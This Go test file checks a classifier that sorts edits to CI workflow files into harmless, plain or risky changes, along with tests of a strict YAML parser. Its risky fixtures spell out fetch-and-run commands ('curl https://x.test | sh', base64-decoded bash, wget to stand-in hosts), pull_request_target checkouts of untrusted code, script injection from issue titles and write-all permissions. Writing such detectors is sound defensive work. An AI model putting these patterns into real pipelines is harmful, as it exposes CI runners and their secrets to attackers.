package shape

import "testing"

const sha = "0123456789012345678901234567890123456789"

const workflowText = `name: test
# when
on:
  push:
    branches: [main]
permissions:
  contents: read
env:
  GO_VERSION: 1.21.0
jobs:
  build:
    runs-on: ubuntu-22.04
    container:
      image: alpine:3.18
    steps:
      - uses: actions/checkout@v3
      - uses: x/pinned@` + sha + ` # v1.0.0
      - name: Build
        uses: x/build@v2
        with:
          python-version: "3.11"
      - run: |
          # in a script
          make

          make check
      - run: make install # at last
`

func TestWorkflow(t *testing.T) {
	with := func(from, to string) string { return replaceOnce(t, workflowText, from, to) }
	const path = ".github/workflows/test.yml"
	step := func(as string) string {
		return replaceOnce(t, workflowText, "- run: make install", as+"\n      - run: make install")
	}
	const otherSHA = "9876543210987654321098765432109876543210"
	edits{
		"a newer action":              {path, workflowText, with("checkout@v3", "checkout@v4"), Harmless},
		"another commit":              {path, workflowText, with(sha+" # v1.0.0", otherSHA+" # v1.1.0"), Harmless},
		"a tag pinned":                {path, workflowText, with("x/build@v2", "x/build@"+otherSHA), Harmless},
		"a newer image":               {path, workflowText, with("alpine:3.18", "alpine:3.19"), Harmless},
		"a newer runner":              {path, workflowText, with("ubuntu-22.04", "ubuntu-24.04"), Harmless},
		"a newer tool":                {path, workflowText, with(`"3.11"`, `"3.12"`), Harmless},
		"a newer tool by environment": {path, workflowText, with("1.21.0", "1.22.0"), Harmless},
		"the name of a step":          {path, workflowText, with("name: Build", "name: Build it"), Harmless},
		"a comment":                   {path, workflowText, with("# when", "# always"), Harmless},
		"an empty line":               {path, workflowText, with("jobs:", "\njobs:"), Harmless},
		"a comment behind a value":    {path, workflowText, with("# at last", "# the end"), Harmless},
		"in an action":                {"a/action.yml", workflowText, with("checkout@v3", "checkout@v4"), Harmless},
		"in Forgejo": {
			".forgejo/workflows/a.yaml", workflowText,
			with("checkout@v3", "checkout@v4"), Harmless,
		},
		"a right in quotes":           {path, workflowText, with("contents: read", `contents: "write"`), Risky},
		"a right behind blanks":       {path, workflowText, with("contents: read", "contents:   write"), Risky},
		"a right in braces":           {path, workflowText, with("\n  contents: read", ` {"contents":"write"}`), Risky},
		"an event with an escape":     {path, workflowText, with("  push:", `  "pull_request_\x74arget":`), Risky},
		"an action in braces":         {path, workflowText, step("- {name: a, uses: x/new@v1}"), Risky},
		"an action's key in quotes":   {path, workflowText, step("- \"uses\": x/new@v1"), Risky},
		"an action on the next line":  {path, workflowText, step("- uses:\n          x/new@v1"), Risky},
		"an action's key by itself":   {path, workflowText, step("- ? uses\n        : x/new@v1"), Risky},
		"a command that says write":   {path, workflowText, with("make check", "echo contents:ok, write"), Plain},
		"a known action with blanks":  {path, workflowText, with("uses: x/build@v2", "uses:  x/build@v2"), Harmless},
		"a comment in a script":       {path, workflowText, with("# in a script", "# this is a script"), Plain},
		"a command":                   {path, workflowText, with("make check", "make check2"), Plain},
		"an older action":             {path, workflowText, with("checkout@v3", "checkout@v2"), Plain},
		"an older commit":             {path, workflowText, with(sha+" # v1.0.0", otherSHA+" # v0.9.0"), Plain},
		"another branch":              {path, workflowText, with("[main]", "[main, dev]"), Plain},
		"another indent":              {path, workflowText, with("    branches:", "  branches:"), Plain},
		"a comment that takes a line": {path, workflowText, with("  contents: read", "#  contents: read"), Plain},
		"a key twice":                 {path, workflowText, with("env:", "env:\n  X: 1\nenv:"), Plain},
		"an anchor":                   {path, workflowText, with("env:", "env: &a"), Plain},
		"a tag":                       {path, workflowText, with("1.21.0", "!!str 1.22.0"), Plain},
		"two documents":               {path, workflowText, workflowText + "---\n" + workflowText, Plain},
		"a tab":                       {path, workflowText, with("jobs:", "jobs:\t"), Plain},
		"more in a name":              {path, workflowText, with("name: Build", "name: ${{ inputs.x }}"), Plain},
		"a step taken out":            {path, workflowText, with("      - uses: actions/checkout@v3\n", ""), Plain},
		"text that goes on":           {path, workflowText, with("# at last", "\n          # at last"), Harmless},
		"a commit becomes a tag":      {path, workflowText, with(sha+" # v1.0.0", "v1.1.0"), Risky},
		"a commit becomes a branch":   {path, workflowText, with(sha+" # v1.0.0", "main"), Risky},
		"another owner":               {path, workflowText, with("x/build@v2", "y/build@v3"), Risky},
		"another folder":              {path, workflowText, with("x/build@v2", "x/build/sub@v3"), Risky},
		"a new action": {
			path, workflowText,
			with("      - run: make", "      - uses: y/z@v1\n      - run: make"), Risky,
		},
		"an image as action": {path, workflowText, with("x/build@v2", "docker://evil:1"), Risky},
		"write for all":      {path, workflowText, with("  contents: read", "  contents: write"), Risky},
		"write-all": {
			path, workflowText,
			with("permissions:\n  contents: read", "permissions: write-all"), Risky,
		},
		"no limits":             {path, workflowText, with("permissions:\n  contents: read\n", ""), Risky},
		"a secret":              {path, workflowText, with("1.21.0", "1.21.0\n  T: ${{ secrets.T }}"), Risky},
		"an event":              {path, workflowText, with("  push:", "  pull_request_target:\n  push:"), Risky},
		"a runner of one's own": {path, workflowText, with("ubuntu-22.04", "self-hosted"), Risky},
		"what others write": {
			path, workflowText,
			with("make install", "echo ${{ github.event.issue.title }}"), Risky,
		},
		"all that others write": {
			path, workflowText,
			with("make install", "echo '${{ toJSON(github.event) }}'"), Risky,
		},
		"what others write, by another sign": {
			path, workflowText,
			with("make install", "echo ${{ github.event['issue'].title }}"), Risky,
		},
		"a new image":           {path, workflowText, with("alpine:3.18", "evil/alpine:3.19"), Risky},
		"another image of all":  {path, workflowText, with("alpine:3.18", "debian:12"), Plain},
		"a container":           {path, workflowText, with("    steps:", "    container: x.test/a\n    steps:"), Risky},
		"an event of forums":    {path, workflowText, with("  push:", "  discussion:\n  push:"), Risky},
		"a word about forums":   {path, workflowText, with("make check", "echo see the discussion"), Plain},
		"a shell of the tree":   {path, workflowText, step("- run: make\n        shell: sh ./x {0}"), Risky},
		"a usual shell":         {path, workflowText, step("- run: make\n        shell: bash -el {0}"), Plain},
		"a file before a step":  {path, workflowText, with("make check", "echo BASH_ENV=x >> $GITHUB_ENV"), Risky},
		"commands with escapes": {path, workflowText, step(`- run: "wge\x74 x.test"`), Risky},
		"another program":       {"action.yml", "runs:\n  main: a.js\n", "runs:\n  main: b.js\n", Risky},
		"a stranger's commit": {
			path, replaceOnce(t, workflowText, "push:", "pull_request_target:"),
			replaceOnce(t, replaceOnce(t, workflowText, "push:", "pull_request_target:"), "checkout@v3",
				"checkout@v3\n        with:\n          ref: ${{ github.event.pull_request.head.sha }}"), Risky,
		},
		"a stranger's commit, without rights": {
			path, workflowText,
			with("checkout@v3", "checkout@v3\n        with:\n          ref: ${{ github.event.pull_request.head.sha }}"), Plain,
		},
		"fetch and run":  {path, workflowText, with("make check", "curl https://x.test | sh"), Risky},
		"decode and run": {path, workflowText, with("make check", "echo bWFrZQ== | base64 -d | bash"), Risky},
	}.check(t)
}

func TestOtherYAML(t *testing.T) {
	const pre = "repos:\n  - repo: https://github.com/a/b\n    rev: v1.0.0\n    hooks:\n      - id: c\n"
	const other = "a: 1.0\n# why\nb:\n- c\n- d: e\n"
	const gitlab = "image: alpine:3.18\nvariables:\n  GO_VERSION: 1.21.0\ntest:\n  script:\n    - make\n"
	edits{
		"a newer hook":       {".pre-commit-config.yaml", pre, replaceOnce(t, pre, "v1.0.0", "v1.1.0"), Harmless},
		"an older hook":      {".pre-commit-config.yaml", pre, replaceOnce(t, pre, "v1.0.0", "v0.9.0"), Plain},
		"a branch":           {".pre-commit-config.yaml", pre, replaceOnce(t, pre, "v1.0.0", "main"), Plain},
		"another repository": {".pre-commit-config.yaml", pre, replaceOnce(t, pre, "a/b", "a/bb"), Risky},
		"a comment of any":   {"other.yml", other, replaceOnce(t, other, "why", "what for"), Harmless},
		"a version of any":   {"other.yml", other, replaceOnce(t, other, "1.0", "1.1"), Plain},
		"GitLab's image":     {".gitlab-ci.yml", gitlab, replaceOnce(t, gitlab, "3.18", "3.19"), Harmless},
		"GitLab's variable":  {".gitlab-ci.yml", gitlab, replaceOnce(t, gitlab, "1.21.0", "1.22.0"), Harmless},
		"GitLab's script":    {".gitlab-ci.yml", gitlab, replaceOnce(t, gitlab, "- make", "- make all"), Plain},
		"GitLab's script fetching": {
			".gitlab-ci.yml", gitlab,
			replaceOnce(t, gitlab, "- make", "- wget https://x.test/a"), Risky,
		},
	}.check(t)
}

// What isn't surely read alike by all readers of YAML isn't read.
func TestYAMLThatIsNotRead(t *testing.T) {
	for _, text := range []string{
		"a: *b\n", "a: &b c\n", "a: !t c\n", "? a\n: b\n", "a: b\n  c\n", "a: \"b\n  c\"\n", "a: [b,\n  c]\n", "<<: {a: b}\n",
		"a: |2\n    b\n", "a: |\n     b\n   c\n", "a: b: c\n", "a: 1\na: 2\n", "- a\nb: c\n", "a:\n    b: c\n  d: e\n",
		"a: b\n--- \nc: d\n", "%YAML 1.1\n---\na: b\n", "\ta: b\n", "a:\n\tb: c\n", "a: 'b' c\n", "a: {b: c} d\n",
		"a: |\n\n   \n  b\n", "a: @b\n", "a: `b`\n", "{a: b}: c\n", "- - a\n - b\n",
	} {
		if n := parseYAML([]byte(text)); n != nil {
			t.Errorf("%q is read as %+v", text, n)
		}
	}
}

func TestYAML(t *testing.T) {
	for _, c := range []struct {
		text string
		path []string
		want string
	}{
		{"a: b\n", []string{"a"}, "b"},
		{"---\na: b # c\n", []string{"a"}, "b"},
		{"a:\n  b: c\n  d: e\n", []string{"a", "d"}, "e"},
		{"a:\n- b: c\n  d: e\nf: g\n", []string{"f"}, "g"},
		{"a: b#c\n", []string{"a"}, "b#c"},
		{"\"a\": 'it''s'\n", []string{"a"}, "'it''s'"},
		{"a: \"b # c\" # d\n", []string{"a"}, "\"b # c\""},
		{"a: {b: [c, d]}\n", []string{"a"}, "{b: [c, d]}"},
		{"a: https://b.test/c:d\n", []string{"a"}, "https://b.test/c:d"},
		{"a:b: c\n", []string{"a:b"}, "c"},
		{"a:\nb: c\n", []string{"a"}, ""},
	} {
		n := parseYAML([]byte(c.text))
		for _, key := range c.path {
			n = n.at(key)
		}
		if n == nil || n.text != c.want {
			t.Errorf("%q: %+v, want %q", c.text, n, c.want)
		}
	}
	n := parseYAML([]byte("a: |\n  # b\n    c\n\n  d\ne: f\n")).at("a")
	if n == nil || n.kind != block || n.text != "|\n# b\n  c\n\nd" {
		t.Errorf("literal text: %+v", n)
	}
}

// TestUnknownYAML: of YAML that nothing is known of, only comments and empty lines are harmless.
func TestUnknownYAML(t *testing.T) {
	const path, text = "data/a.yml", "# a\na: 1\nb: |\n  # no comment\n  x\n"
	edits{
		"a comment":          {path, text, replaceOnce(t, text, "# a\n", "# b\n\n"), Harmless},
		"no comment":         {path, text, replaceOnce(t, text, "# a\n", ""), Harmless},
		"a value":            {path, text, replaceOnce(t, text, "a: 1", "a: 2"), Plain},
		"in other words":     {path, text, replaceOnce(t, text, "a: 1", `a: "1"`), Plain},
		"a value is gone":    {path, text, replaceOnce(t, text, "a: 1\n", ""), Plain},
		"in a text":          {path, text, replaceOnce(t, text, "# no", "# yes,"), Plain},
		"a command":          {path, text, text + "c: curl -o x evil.example\n", Risky},
		"that can't be read": {path, text, replaceOnce(t, text, "b: |\n", "b: |\n# a\n\t- {\n"), Plain},
	}.check(t)
}
